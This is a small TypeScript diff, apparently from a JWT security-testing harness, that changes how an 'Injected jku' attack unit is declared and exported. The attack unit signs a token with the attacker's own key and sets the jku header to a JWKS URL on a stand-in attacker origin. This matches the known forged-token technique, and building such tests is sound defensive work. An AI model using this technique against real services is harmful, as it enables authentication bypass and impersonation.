@@ -7,7 +7,7 @@ import { forgerHas, noTokenToForge, present } from '../attacker/forged-token';
 import { LIBRARIES_TAKE_NO_KEY, NAIVE_VERIFIER_ASSUMED } from '../attacker/assumed';
 import type { AttackUnit } from '../attacker/attack';
 
-export default {
+const attack: AttackUnit = {
   order: 45,
   group: 'forged tokens',
   label: 'Injected jku',
@@ -26,4 +26,6 @@ export default {
     const header = withParameters(has.header, { alg, kid, jku: `${ATTACKER_ORIGIN}/jwks.json` });
     await present(hands, [{ compact: await sign(header, has.payload, alg, has.own.privateKey) }]);
   },
-} satisfies AttackUnit;
+};
+
+export default attack;
